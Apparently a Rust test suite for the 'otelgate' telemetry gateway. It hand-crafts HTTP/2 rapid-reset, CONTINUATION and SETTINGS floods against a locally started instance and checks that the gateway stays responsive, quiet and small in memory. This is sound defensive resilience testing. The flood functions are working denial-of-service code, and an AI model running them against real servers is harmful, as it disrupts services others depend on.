//! HTTP/2 abuse at the frame level, written by hand so that nothing in a client library
//! softens it: rapid reset (streams opened and cancelled at once, CVE-2023-44487), an endless
//! CONTINUATION header block (CVE-2024-27316 and kin) and a SETTINGS flood, on both OTLP
//! ports. During the attacks a normal gRPC client keeps exporting; afterwards the gateway
//! serves, its log stayed quiet and its memory stayed small.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::Stdio;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio::io::AsyncBufReadExt;

use otelgate::Signal;

use crate::durable::free_port;
use crate::{grpc_export, log_dir, metric};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const CONTINUATION: u8 = 0x9;
const END_HEADERS: u8 = 0x4;
/// HTTP/2 error code CANCEL, what a browser or SDK sends when it gives up on a stream.
const CANCEL: u32 = 0x8;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// An HPACK string literal, not Huffman-coded; `len` < 127.
fn literal(out: &mut Vec<u8>, text: &[u8]) {
    assert!(text.len() < 127);
    out.push(text.len() as u8);
    out.extend_from_slice(text);
}

/// The header block of a gRPC trace export: static-table method and scheme, literal path,
/// authority and content type (names indexed, values not).
fn request_headers(authority: SocketAddr) -> Vec<u8> {
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http
    block.push(0x04); // :path, literal without indexing
    literal(&mut block, Signal::Traces.grpc_path().as_bytes());
    block.push(0x01); // :authority
    literal(&mut block, authority.to_string().as_bytes());
    block.extend_from_slice(&[0x0f, 0x10]); // content-type (static index 31)
    literal(&mut block, b"application/grpc");
    block
}

/// A connection past the preface and an empty SETTINGS frame.
fn connect(addr: SocketAddr) -> Option<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&addr, Duration::from_secs(1)).ok()?;
    stream.set_nodelay(true).ok()?;
    stream
        .set_write_timeout(Some(Duration::from_secs(2)))
        .ok()?;
    let mut hello = PREFACE.to_vec();
    hello.extend(frame(SETTINGS, 0, 0, &[]));
    stream.write_all(&hello).ok()?;
    Some(stream)
}

/// Reads and discards whatever the server sends, so that its writes never block on us.
fn drain(mut stream: TcpStream, closed: Arc<AtomicBool>) {
    std::thread::spawn(move || {
        let mut buf = [0u8; 16 * 1024];
        while let Ok(n) = stream.read(&mut buf) {
            if n == 0 {
                break;
            }
        }
        closed.store(true, Ordering::Relaxed);
    });
}

/// One attacking thread's loop: target, end time, tally.
type AttackFn = fn(SocketAddr, Instant, &Attack);

#[derive(Default)]
struct Attack {
    connections: AtomicU64,
    frames: AtomicU64,
    bytes: AtomicU64,
    /// Bytes of header block the server took on one stream before it ended the connection.
    largest_header_block: AtomicU64,
    /// Header blocks the server ended (by closing the connection) before the attack's end.
    ended_blocks: AtomicU64,
}

/// Rapid reset: every stream is opened and cancelled at once, in batches of 100 per write.
fn rapid_reset(addr: SocketAddr, until: Instant, tally: &Attack) {
    let headers = request_headers(addr);
    while Instant::now() < until {
        let Some(stream) = connect(addr) else {
            std::thread::sleep(Duration::from_millis(10));
            continue;
        };
        tally.connections.fetch_add(1, Ordering::Relaxed);
        let closed = Arc::new(AtomicBool::new(false));
        drain(stream.try_clone().unwrap(), closed.clone());
        let mut stream = stream;
        let mut id = 1u32;
        while Instant::now() < until && !closed.load(Ordering::Relaxed) && id < 1 << 30 {
            let mut burst = Vec::with_capacity(100 * 64);
            for _ in 0..100 {
                burst.extend(frame(HEADERS, END_HEADERS, id, &headers));
                burst.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
                id += 2;
            }
            if stream.write_all(&burst).is_err() {
                break;
            }
            tally.frames.fetch_add(200, Ordering::Relaxed);
            tally.bytes.fetch_add(burst.len() as u64, Ordering::Relaxed);
        }
    }
}

/// One header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames
/// of padding headers for as long as the server reads them.
fn continuation_flood(addr: SocketAddr, until: Instant, tally: &Attack) {
    let mut padding = Vec::new();
    for i in 0..150u32 {
        padding.push(0x00); // literal without indexing, new name
        literal(&mut padding, format!("x-pad-{i:04}").as_bytes());
        literal(&mut padding, &[b'a'; 96]);
    }
    let continuation = frame(CONTINUATION, 0, 1, &padding);
    while Instant::now() < until {
        let Some(mut stream) = connect(addr) else {
            std::thread::sleep(Duration::from_millis(10));
            continue;
        };
        tally.connections.fetch_add(1, Ordering::Relaxed);
        let closed = Arc::new(AtomicBool::new(false));
        drain(stream.try_clone().unwrap(), closed.clone());
        if stream
            .write_all(&frame(HEADERS, 0, 1, &request_headers(addr)))
            .is_err()
        {
            continue;
        }
        let mut block = 0u64;
        while Instant::now() < until && !closed.load(Ordering::Relaxed) {
            if stream.write_all(&continuation).is_err() {
                break;
            }
            block += padding.len() as u64;
            tally.frames.fetch_add(1, Ordering::Relaxed);
            tally
                .bytes
                .fetch_add(continuation.len() as u64, Ordering::Relaxed);
        }
        // Only a block the server ended counts; one cut by the clock tells nothing.
        if closed.load(Ordering::Relaxed) || Instant::now() < until {
            tally.ended_blocks.fetch_add(1, Ordering::Relaxed);
            tally
                .largest_header_block
                .fetch_max(block, Ordering::Relaxed);
        }
    }
}

/// SETTINGS frames, each of which the server must acknowledge, as fast as they can be sent.
fn settings_flood(addr: SocketAddr, until: Instant, tally: &Attack) {
    // SETTINGS_INITIAL_WINDOW_SIZE = 65535, repeated: valid, and each one needs an ACK.
    let one = frame(SETTINGS, 0, 0, &[0x00, 0x04, 0x00, 0x00, 0xff, 0xff]);
    let burst: Vec<u8> = std::iter::repeat_n(one, 200).flatten().collect();
    while Instant::now() < until {
        let Some(mut stream) = connect(addr) else {
            std::thread::sleep(Duration::from_millis(10));
            continue;
        };
        tally.connections.fetch_add(1, Ordering::Relaxed);
        // Never read the ACKs: the server's writes back up, as an attacker's would.
        while Instant::now() < until {
            if stream.write_all(&burst).is_err() {
                break;
            }
            tally.frames.fetch_add(200, Ordering::Relaxed);
            tally.bytes.fetch_add(burst.len() as u64, Ordering::Relaxed);
        }
    }
}

fn rss_kib(pid: u32, field: &str) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix(field))
        .and_then(|v| v.trim().trim_end_matches(" kB").parse().ok())
        .unwrap()
}

fn traces() -> bytes::Bytes {
    let (request, _) = otelgate_cli::demo::generator::TelemetryGenerator::new(9).traces(4);
    prost::Message::encode_to_vec(&request).into()
}

/// Runs `attack` with 3 threads against `target` for `secs` while a normal gRPC client on
/// `grpc` exports every 20 ms; returns the normal client's latencies (failures panic).
async fn under_attack(
    attack: AttackFn,
    target: SocketAddr,
    grpc: SocketAddr,
    secs: u64,
) -> (Arc<Attack>, Vec<Duration>) {
    let tally = Arc::new(Attack::default());
    let until = Instant::now() + Duration::from_secs(secs);
    let threads: Vec<_> = (0..3)
        .map(|_| {
            let tally = tally.clone();
            std::thread::spawn(move || attack(target, until, &tally))
        })
        .collect();
    let mut latencies = Vec::new();
    let body = traces();
    while Instant::now() < until {
        let started = Instant::now();
        tokio::time::timeout(
            Duration::from_secs(5),
            grpc_export(grpc, Signal::Traces, body.clone(), &[]),
        )
        .await
        .expect("a normal client is answered within 5 s during the attack")
        .expect("a normal client's export is accepted during the attack");
        latencies.push(started.elapsed());
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    for thread in threads {
        thread.join().unwrap();
    }
    latencies.sort();
    (tally, latencies)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http2_rapid_reset_continuation_and_settings_floods_are_contained() {
    let backend = otelgate_cli::demo::backend::RecordingBackend::start()
        .await
        .unwrap();
    let dir = log_dir();
    let (grpc, http, admin) = (free_port(), free_port(), free_port());
    let config = format!(
        r#"
[receiver]
grpc_endpoint = "{grpc}"
http_endpoint = "{http}"
[telemetry]
admin_endpoint = "{admin}"
[log]
dir = "{log}"
[exporters.b]
endpoint = "{endpoint}"
protocol = "grpc"
"#,
        log = dir.join("log").display(),
        endpoint = backend.endpoint(),
    );
    let path = dir.join("otelgate.toml");
    std::fs::write(&path, config).unwrap();
    let mut child = tokio::process::Command::new(crate::otelgate_binary())
        .args(["run", "--config"])
        .arg(&path)
        .env("RUST_LOG", "info")
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let pid = child.id().unwrap();
    // Every line the gateway logs, with the time it arrived.
    let lines = Arc::new(std::sync::Mutex::new(Vec::<(Instant, String)>::new()));
    let mut stderr = tokio::io::BufReader::new(child.stderr.take().unwrap()).lines();
    let sink = lines.clone();
    tokio::spawn(async move {
        while let Ok(Some(line)) = stderr.next_line().await {
            sink.lock().unwrap().push((Instant::now(), line));
        }
    });
    let deadline = Instant::now() + Duration::from_secs(30);
    while !reqwest::get(format!("http://{admin}/readyz"))
        .await
        .is_ok_and(|r| r.status().is_success())
    {
        assert!(Instant::now() < deadline, "the gateway never became ready");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let body = traces();
    grpc_export(grpc, Signal::Traces, body.clone(), &[])
        .await
        .unwrap();
    let rss_before = rss_kib(pid, "VmRSS:");

    let attacks: [(&str, AttackFn, SocketAddr); 5] = [
        ("rapid reset on gRPC", rapid_reset, grpc),
        ("rapid reset on HTTP", rapid_reset, http),
        ("CONTINUATION flood on gRPC", continuation_flood, grpc),
        ("CONTINUATION flood on HTTP", continuation_flood, http),
        ("SETTINGS flood on gRPC", settings_flood, grpc),
    ];
    let mut exported = 1;
    for (name, attack, target) in attacks {
        let logged_before = lines.lock().unwrap().len();
        let (tally, latencies) = under_attack(attack, target, grpc, 4).await;
        exported += latencies.len();
        let logged = lines.lock().unwrap().len() - logged_before;
        let p50 = latencies[latencies.len() / 2];
        let max = *latencies.last().unwrap();
        println!(
            "{name}: {} connections, {} frames, {} MiB sent; normal client {} exports, \
             p50 {p50:?}, max {max:?}; {logged} log lines; RSS {} MiB",
            tally.connections.load(Ordering::Relaxed),
            tally.frames.load(Ordering::Relaxed),
            tally.bytes.load(Ordering::Relaxed) >> 20,
            latencies.len(),
            rss_kib(pid, "VmRSS:") >> 10,
        );
        assert!(
            tally.frames.load(Ordering::Relaxed) > 1_000,
            "{name}: the attack ran"
        );
        assert!(
            p50 < Duration::from_millis(250),
            "{name}: a normal client's median latency stays low: {p50:?}"
        );
        // Library warnings are limited to 10 per call site per 10 s; the gateway's own are
        // rate-limited where raised. Thousands a second was the failure.
        assert!(
            logged <= 60,
            "{name}: {logged} log lines in 4 s:\n{}",
            lines.lock().unwrap()[logged_before..]
                .iter()
                .take(20)
                .map(|(_, l)| l.as_str())
                .collect::<Vec<_>>()
                .join("\n")
        );
        if name.starts_with("CONTINUATION") {
            let block = tally.largest_header_block.load(Ordering::Relaxed);
            let ended = tally.ended_blocks.load(Ordering::Relaxed);
            println!("{name}: {ended} header blocks ended by the server, the largest after {block} bytes sent");
            let connections = tally.connections.load(Ordering::Relaxed);
            // Each attacking thread's last connection may be cut by the clock instead.
            assert!(
                ended + 3 >= connections,
                "{name}: the server ended only {ended} of {connections} endless header blocks"
            );
            // Bytes sent include what the kernel buffers on both ends of a loopback
            // connection (a few MiB); a server that kept reading would take gigabytes.
            assert!(
                block < 16 << 20,
                "{name}: a header block ran to {block} bytes before the server ended it"
            );
        }
    }
    let peak = rss_kib(pid, "VmHWM:");
    println!(
        "RSS before {} MiB, peak {} MiB",
        rss_before >> 10,
        peak >> 10
    );
    assert!(
        peak < rss_before + (256 << 10),
        "peak RSS {} MiB grew more than 256 MiB over {} MiB",
        peak >> 10,
        rss_before >> 10
    );
    // Recovered: a fresh client is served on both ports, and every normal export arrived.
    grpc_export(grpc, Signal::Traces, body.clone(), &[])
        .await
        .unwrap();
    exported += 1;
    let response = reqwest::Client::new()
        .post(format!("http://{http}/v1/traces"))
        .header("content-type", "application/x-protobuf")
        .timeout(Duration::from_secs(2))
        .body(body)
        .send()
        .await
        .unwrap();
    assert!(response.status().is_success());
    exported += 1;
    let spans = exported as u64 * 4;
    assert!(
        backend
            .wait_for(Signal::Traces, spans, Duration::from_secs(20))
            .await,
        "{} of {spans} spans reached the backend",
        backend.items(Signal::Traces)
    );
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(
        backend.items(Signal::Traces),
        spans,
        "nothing the attacks sent was forwarded"
    );
    let suppressed = metric(admin, "otelgate_log_suppressed_lines_total", &[]).await;
    println!("suppressed log lines: {suppressed}");
    let _ = child.start_kill();
}

/// Reads the server's first frames until its SETTINGS and the connection's WINDOW_UPDATE.
fn server_windows(addr: SocketAddr) -> (Option<u32>, Option<u32>) {
    let mut stream = connect(addr).expect("connects");
    stream
        .set_read_timeout(Some(Duration::from_secs(2)))
        .unwrap();
    let (mut initial_window, mut connection_increment) = (None, None);
    let mut header = [0u8; 9];
    while stream.read_exact(&mut header).is_ok() {
        let len = u32::from_be_bytes([0, header[0], header[1], header[2]]) as usize;
        let mut payload = vec![0u8; len];
        stream.read_exact(&mut payload).unwrap();
        let stream_id = u32::from_be_bytes(header[5..9].try_into().unwrap()) & 0x7fff_ffff;
        match header[3] {
            SETTINGS if header[4] & 0x1 == 0 => {
                for setting in payload.chunks_exact(6) {
                    if u16::from_be_bytes([setting[0], setting[1]]) == 0x4 {
                        initial_window =
                            Some(u32::from_be_bytes(setting[2..6].try_into().unwrap()));
                    }
                }
            }
            0x8 if stream_id == 0 => {
                connection_increment =
                    Some(u32::from_be_bytes(payload[..4].try_into().unwrap()) & 0x7fff_ffff);
            }
            _ => {}
        }
        if initial_window.is_some() && connection_increment.is_some() {
            break;
        }
    }
    (initial_window, connection_increment)
}

/// What an HTTP/2 client may send before the gateway reads it sits outside the memory
/// budget: the window the gateway grants is the configured one, on both ports, for streams
/// and for the connection.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http2_clients_get_the_configured_window() {
    let backend = otelgate_cli::demo::backend::RecordingBackend::start()
        .await
        .unwrap();
    let backends = [("b", &backend, otelgate::export::otlp::Protocol::Grpc)];
    let mut config = crate::config_for(&backends);
    config.receiver.connections.http2_window_bytes = 100_000;
    let gateway = crate::start(config).await;
    for addr in [gateway.grpc_addr(), gateway.http_addr()] {
        let (initial, increment) = tokio::task::spawn_blocking(move || server_windows(addr))
            .await
            .unwrap();
        assert_eq!(initial, Some(100_000), "stream window on {addr}");
        // Connections start at 65,535; the server raises it to the configured size.
        assert_eq!(
            increment,
            Some(100_000 - 65_535),
            "connection window on {addr}"
        );
    }
    let mut config = crate::config_for(&backends);
    config.receiver.connections.http2_window_bytes = 1_000;
    let error = config.validate().unwrap_err().to_string();
    assert!(
        error.contains("receiver.connections.http2_window_bytes"),
        "{error}"
    );
    gateway.shutdown().await;
}
